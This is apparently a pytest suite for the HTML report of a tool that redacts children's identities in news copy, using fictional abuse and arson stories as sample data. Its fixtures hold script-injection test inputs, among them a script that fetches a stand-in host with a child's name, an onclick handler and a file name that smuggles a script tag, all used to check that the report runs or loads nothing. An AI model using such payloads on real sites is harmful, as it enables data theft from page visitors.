"""The HTML report: whole, true to the copy, safe to open, and fit to be worked through."""

from __future__ import annotations

import base64
import hashlib
import json
import re
from collections.abc import Callable
from datetime import date
from itertools import pairwise
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from page import Element, read_page

from safeguard import Safeguard
from safeguard.cli.main import main
from safeguard.report import Report, Waived
from safeguard.reports import Checked, Format
from safeguard.reports.html_page.marks import stretches

DEMO = Path(__file__).parent.parent.parent / "samples" / "demo" / "inquest.txt"
PARTS = {
    "headline": "Boys admit arson",
    "body": "Tyler Brannock, 14, a Year 9 pupil at Harbour Lane School, of Corran Street, Wexmouth, "
    "admitted arson.\n\nHis mother, Dawn Brannock, wept. Ring Childline on 0800 1111.",
    "slug": "tyler-brannock-arson",
    "tags": ["Wexmouth", "Tyler Brannock"],
}
HOSTILE = (
    '<p onclick="steal()">Maisie Thornbury, six, was starved by her mother, Leanne Thornbury, '
    "who was jailed.</p>\r\n"
    '<script>fetch("https://wexmouth.example/?Maisie Thornbury")</script>\r\n'
    '<img src="https://wexmouth.example/maisie-thornbury.jpg" alt="&quot;Maisie&quot; Thornbury">\r\n'
    "{{ 7777 * 7 }} {% raw %} --> ]]> </div></style></main> "
    "<b>Maisie</b>\u00ad <i>Thorn\u00adbury</i>\u202e lived on."
)


@pytest.fixture
def page(checked: Callable[..., Checked], render: Callable[..., str]) -> Callable[..., Element]:
    def read(*paths: Path, **context: str) -> Element:
        return read_page(render(Format.HTML, *(checked(path, **context) for path in paths)))

    return read


@pytest.fixture
def story(tmp_path: Path) -> Path:
    path = tmp_path / "story.json"
    path.write_text(json.dumps(PARTS))
    return path


@pytest.fixture
def hostile(tmp_path: Path) -> Path:
    path = tmp_path / "story.html"
    path.write_bytes(HOSTILE.encode())
    return path


def words_of(part: Element) -> str:
    """The copy in a part of the page, without the numbers and hints that were put to it."""
    return part.text("sup", "hidden")


def as_shown(text: str) -> str:
    return re.sub("[\u00ad\u202e]", " ", text.replace("\r\n", "\n"))


def check_findings(page: Element, number: int, report: Report) -> None:
    """Every finding has a card with a link to its words, and its words are marked with a link to the card."""
    for finding in report.findings:
        name = f"c{number}-{finding.id}"
        (anchor,) = page.find(id=name)
        text = anchor.inside("text")
        assert text is not None, name
        over = [e for e in text.all() if finding.id in e.attributes.get("data-findings", "").split()]
        shown = "".join(words_of(e) for e in over)
        assert re.sub(r"\s", "", as_shown(finding.text or "")) == re.sub(r"\s", "", shown), name
        cards = [e for e in page.all() if e.attributes.get("data-finding") == finding.id]
        cards = [e for e in cards if any(a.attributes["href"] == f"#{name}" for a in e.find("a"))]
        assert len(cards) == 1, name
        assert f"({finding.rule})" in text_of_matter(cards[0])
        assert finding.because in text_of_matter(cards[0])


def text_of_matter(place: Element) -> str:
    around: Element | None = place
    while around is not None and not re.fullmatch(r"c\d+-m\d+", around.attributes.get("id", "")):
        around = around.parent
    assert around is not None
    return around.text()


@pytest.mark.parametrize("name", ["demo", "story", "hostile"])
def test_every_finding_has_its_card_and_its_mark_and_every_link_leads_somewhere(
    name: str,
    request: pytest.FixtureRequest,
    checked: Callable[..., Checked],
    render: Callable[..., str],
) -> None:
    copy = checked(DEMO if name == "demo" else request.getfixturevalue(name), restriction="s45")
    page = read_page(render(Format.HTML, copy))

    assert len(copy.report.findings) > 5
    check_findings(page, 1, copy.report)
    ids = [e.attributes["id"] for e in page.all() if "id" in e.attributes]
    assert len(ids) == len(set(ids))
    targets = [e.attributes["href"] for e in page.find("a")]
    assert {target.removeprefix("#") for target in targets} <= set(ids)
    labels = [i for e in page.all() for i in e.attributes.get("aria-labelledby", "").split()]
    assert set(labels) <= set(ids)


def test_the_copy_is_there_to_the_last_character_part_by_part(
    page: Callable[..., Element], story: Path, hostile: Path
) -> None:
    (body,) = page(DEMO).find("div", "text")
    assert words_of(body) == DEMO.read_text()

    texts = [e for e in page(story).all() if "data-part" in e.attributes]
    parts = {e.attributes["data-part"]: words_of(e) for e in texts}
    assert parts == {
        "headline": PARTS["headline"],
        "body": PARTS["body"],
        "slug": PARTS["slug"],
        "tags, item 1": "Wexmouth",
        "tags, item 2": "Tyler Brannock",
    }

    (body,) = page(hostile).find("div", "text")
    assert words_of(body) == as_shown(HOSTILE)
    assert "<script>" in body.find("span", "markup")[2].text() + body.text()


def test_words_around_a_finding_are_those_that_readers_see(
    page: Callable[..., Element], tmp_path: Path
) -> None:
    path = tmp_path / "story.html"
    style = 'style="font-size:11pt;font-family:Arial,sans-serif;color:#000000"'
    path.write_text(
        f"<p {style}>The girl, <b {style}>Maisie Thorn</b><i>bury</i>&rsquo;s child, was six.</p>"
        f"<p {style}>Maisie was starved, a jury found.</p>"
    )
    read = page(path)

    quotes = [q.text() for card in read.find("article", "card") for q in card.find("q")]
    assert "The girl, Maisie Thornbury’s child, was six." in quotes
    said = [q.text() for person in read.find("article", "person") for q in person.find("q")]
    assert not [words for words in (*quotes, *said) if "<" in words or "font" in words]
    assert words_of(read.find("div", "text")[0]).startswith("<p …>The girl, <b …>Maisie Thorn</b><i>bury</i>")


def test_the_verdict_is_the_first_word_and_the_title_has_no_name(
    page: Callable[..., Element], tmp_path: Path
) -> None:
    path = tmp_path / "maisie-thornbury-inquest.txt"
    path.write_text(DEMO.read_text())
    read = page(path)

    (heading,) = read.find("h1")
    assert heading.text().split()[0] == "REVIEW"
    (title,) = read.find("title")
    assert title.text() == "REVIEW: safeguard report"
    assert read.find("p", "name")[0].text() == str(path)


def test_copy_and_names_can_put_nothing_into_the_page(
    checked: Callable[..., Checked], render: Callable[..., str], hostile: Path
) -> None:
    copy = checked(hostile, '"><script>x()</script>{{ 7777 * 7 }}.html')
    first = copy.report.findings[0]
    waived = Waived(by="<b>A. Editor</b>", reason="<script>y()</script>", until=date(2026, 12, 1))
    findings = [first.model_copy(update={"waived": waived}), *copy.report.findings[1:]]
    report = copy.report.model_copy(
        update={"findings": findings, "notes": ["<i>x</i>"], "problems": ["<u>"], "story": "<s>"}
    )

    page = read_page(render(Format.HTML, Checked(copy.name, copy.copy, report)))

    assert page.find("script") + page.find("img") + page.find("link") + page.find("b") + page.find("i") == []
    assert len(page.find("style")) == 1
    for element in page.all():
        assert not {name for name in element.attributes if name.startswith("on") or name == "src"}
        assert element.attributes.get("href", "#").startswith("#")
        assert "style" not in element.attributes
    assert "54439" not in page.text("style")
    assert "\u202e" not in page.text()
    for said in ("<b>A. Editor</b>", "<script>y()</script>", "<i>x</i>", "<u>", "<s>"):
        assert said in page.text()


def test_nothing_is_loaded_from_anywhere(checked: Callable[..., Checked], render: Callable[..., str]) -> None:
    html = render(Format.HTML, checked(DEMO))
    page = read_page(html)

    (policy,) = page.find("meta", http_equiv="Content-Security-Policy")
    rules = dict(rule.strip().split(" ", 1) for rule in policy.attributes["content"].split(";"))
    digest = base64.b64encode(hashlib.sha256(page.find("style")[0].text().encode()).digest()).decode()
    assert rules == {
        "default-src": "'none'",
        "style-src": f"'sha256-{digest}'",
        "base-uri": "'none'",
        "form-action": "'none'",
    }
    assert not re.search(r"https?://|@import|url\(", html)
    assert len(html.encode()) < 100_000


def test_jigsaw_pieces_stand_together_each_with_its_words(page: Callable[..., Element]) -> None:
    cards = [c for c in page(DEMO).find("article", "card") if "pieces that together" in c.text()]

    (card,) = cards
    pieces = [li.find("mark")[0].text() for li in card.find("li")]
    assert pieces == ["six", "six", "Maisie’s mother", "Year 1 pupil", "Ruth Adeyemi-Cole"]
    assert "exact age" in card.text()
    assert "relation to a named person" in card.text()
    assert "Do" in [dt.text() for dt in card.find("dt")]


def test_a_name_in_an_address_has_a_card_of_its_own_since_there_is_more_to_do(
    page: Callable[..., Element], tmp_path: Path
) -> None:
    path = tmp_path / "story.json"
    body = "Police are looking for Callum Reekie, 15, who has been missing since Friday. Callum is 5ft 8in."
    path.write_text(json.dumps({"body": body, "slug": "callum-reekie-missing"}))

    mentions, address = (c for c in page(path).find("article", "card") if "child: [Child A]" in c.text())

    assert "Rename" not in mentions.text()
    assert "must be renamed" in address.text()
    assert "Rename the page or file" in address.text()


def test_with_a_story_cards_say_what_to_name_to_waive(page: Callable[..., Element]) -> None:
    cards = page(DEMO, story="inquest-thornbury").find("article", "card")

    assert "Waive" not in page(DEMO).text()
    child = next(c for c in cards if "child: [Child A]" in c.text())
    named = child.find("dd")[-1].text().split(", ")
    assert len(named) == len({"Maisie Thornbury", "Maisie"})


def test_people_are_shown_with_the_words_that_speak_for_it(page: Callable[..., Element]) -> None:
    people = page(DEMO).find("article", "person")

    child = people[0].text()
    for expected in (
        "CHANGED",
        "Maisie Thornbury",
        "[Child A]",
        "minor",
        "victim",
        "has died",
        "age, line 5",
    ):
        assert expected in child
    assert "six" in [q.text() for q in people[0].find("q")]
    assert "Philip Ashworth" in "".join(p.text() for p in people if "KEPT" in p.text())


def test_before_and_after_say_what_was_taken_out_and_put_in(page: Callable[..., Element]) -> None:
    changes = page(DEMO).find("div", "change")

    line = next(c for c in changes if c.find("del") and c.find("del")[0].text() == "Carol")
    assert [d.text() for d in line.find("del")] == [
        "Carol",
        "27",
        "Pellew Gardens",
        "WX4 7QD",
        "07700 900431",
    ]
    assert line.find("ins")[0].text() == "[relative of the child]"
    assert "Before" in line.text()
    assert "After" in line.text()
    assert changes[0].find("ins")[0].text().startswith("Content warning:")


def test_support_blocks_come_with_their_check(page: Callable[..., Element], tmp_path: Path) -> None:
    (block,) = page(DEMO).find("div", "block-of-support")
    assert "Intact, byte for byte" in block.text()
    assert block.find("blockquote")[0].text() in DEMO.read_text()

    path = tmp_path / "story.txt"
    path.write_text("The girl, six, was starved. If you are worried, call the NSPCC on 0808 800 500.")
    read = page(path)
    (problem,) = read.find("p", "problem")
    assert "expected 0808 800 5000" in problem.text()
    assert problem.find("a")[0].attributes["href"] in {
        f"#{e.attributes.get('id')}" for e in read.find("article")
    }


def test_headings_descend_step_by_step(page: Callable[..., Element], story: Path) -> None:
    for read in (page(DEMO), page(DEMO, story)):
        levels = [int(e.tag[1]) for e in read.all() if re.fullmatch(r"h\d", e.tag)]
        assert levels[0] == 1
        assert levels.count(1) == 1
        assert all(after <= before + 1 for before, after in pairwise(levels))


def test_several_pieces_of_copy_are_one_page_with_a_table(
    checked: Callable[..., Checked], render: Callable[..., str], story: Path
) -> None:
    copies = [checked(DEMO), checked(story)]
    page = read_page(render(Format.HTML, *copies))

    for number, copy in enumerate(copies, 1):
        check_findings(page, number, copy.report)
    rows = page.find("tbody")[0].find("tr")
    assert [row.find("a")[0].text() for row in rows] == [str(DEMO), str(story)]
    assert page.find("title")[0].text() == "safeguard report: 2 checked: 2 review"
    ids = [e.attributes["id"] for e in page.all() if "id" in e.attributes]
    assert len(ids) == len(set(ids))


def test_copy_that_could_not_be_checked_is_said_first(
    capfd: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    def crash(*_: object, **__: object) -> None:
        raise RuntimeError("at Maisie Thornbury")

    monkeypatch.setattr(Safeguard, "check", crash)
    assert main(["check", "--format", "html", str(DEMO)]) == 2

    page = read_page(capfd.readouterr().out)
    assert page.find("h1")[0].text() == "0 checked; 1 NOT checked"
    assert "NOT CHECKED" in page.find("p", "problem")[0].text()
    assert "Maisie" not in page.text()


def test_clean_copy_has_a_page_too(page: Callable[..., Element], tmp_path: Path) -> None:
    path = tmp_path / "story.txt"
    path.write_text("The library opens at nine.")
    read = page(path)

    assert read.find("h1")[0].text().split()[0] == "PASS"
    assert "No word of the copy was changed" in read.text()
    assert words_of(read.find("div", "text")[0]) == path.read_text()


def test_bytes_are_the_same_each_time_and_the_file_is_for_the_user_alone(
    checked: Callable[..., Checked], render: Callable[..., str], guard: Safeguard, tmp_path: Path
) -> None:
    demo = checked(DEMO)
    html = render(Format.HTML, demo)
    assert html == render(Format.HTML, Checked(demo.name, demo.copy, guard.check(demo.copy)))

    report = tmp_path / "report.html"
    main(["process", str(DEMO), "-o", str(tmp_path / "safe.txt"), "--report", str(report)])
    assert report.read_text() == html
    assert report.stat().st_mode & 0o077 == 0


@given(
    st.text("ab \n<>", max_size=40),
    st.lists(st.tuples(st.integers(0, 40), st.integers(0, 40), st.sampled_from(["keep", "redact", "block"]))),
    st.lists(st.integers(0, 40), max_size=6),
)
def test_stretches_are_the_text_and_each_finding_lies_over_its_own(
    demo_report: Report, text: str, spans: list[tuple[int, int, str]], hidden: list[int]
) -> None:
    model = demo_report.findings[0]
    inside = [(s, e, a) for s, e, a in spans if s < e <= len(text)]
    findings = [
        model.model_copy(update={"id": f"f{n}", "start": s, "end": e, "action": a, "review": False})
        for n, (s, e, a) in enumerate(inside)
    ]
    edges = sorted({h for h in hidden if h <= len(text)})
    unseen = list(zip(edges[::2], edges[1::2], strict=False))

    cut = stretches(text, findings, unseen)

    assert "".join(s.text for s in cut) == text
    for finding in findings:
        own = [s for s in cut if finding in s.findings]
        assert "".join(s.text for s in own) == text[finding.start : finding.end]
        assert [s for s in cut if finding in s.begins] == own[:1]
        assert [s for s in cut if finding in s.ends] == own[-1:]
    markup = "".join(text[a:b] for a, b in unseen)
    assert "".join(s.text for s in cut if not s.seen) == markup


@pytest.fixture(scope="module")
def demo_report(guard: Safeguard) -> Report:
    return guard.check(DEMO.read_text())
